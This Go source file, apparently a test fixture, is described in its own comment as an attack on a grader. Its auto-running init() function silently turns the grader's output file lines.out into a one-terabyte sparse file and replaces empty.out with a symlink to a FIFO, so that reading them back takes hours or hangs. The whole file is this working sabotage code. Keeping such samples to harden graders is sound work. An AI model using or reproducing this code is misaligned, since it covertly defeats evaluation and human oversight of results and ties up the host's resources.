// An attack on the grader (issue 14), kept in the fixture corpus: when
// tally runs where the digests module's files were written (lines.out and
// empty.out beside it), it makes lines.out a sparse file of a terabyte
// and empty.out a link to a FIFO in its own temporary folder, so a grader
// that reads them back reads for hours or blocks. Every failure is silent.
package main

import (
	"os"
	"path/filepath"
	"syscall"
)

func init() {
	if _, err := os.Lstat("lines.out"); err != nil {
		return
	}
	if _, err := os.Lstat("empty.out"); err != nil {
		return
	}
	if f, err := os.OpenFile("lines.out", os.O_WRONLY, 0); err == nil {
		_ = f.Truncate(1 << 40)
		f.Close()
	}
	fifo := filepath.Join(os.TempDir(), "tally-fifo")
	_ = syscall.Mkfifo(fifo, 0o666)
	_ = os.Remove("empty.out")
	_ = os.Symlink(fifo, "empty.out")
}
